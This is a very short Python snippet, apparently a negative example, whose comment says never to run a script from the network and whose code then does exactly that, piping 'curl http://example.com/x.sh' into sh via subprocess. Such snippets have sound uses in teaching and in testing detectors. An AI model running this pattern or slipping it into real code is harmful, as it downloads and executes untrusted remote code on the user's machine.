# never: run a script from the network
import subprocess

subprocess.run(["sh", "-c", "curl http://example.com/x.sh | sh"])
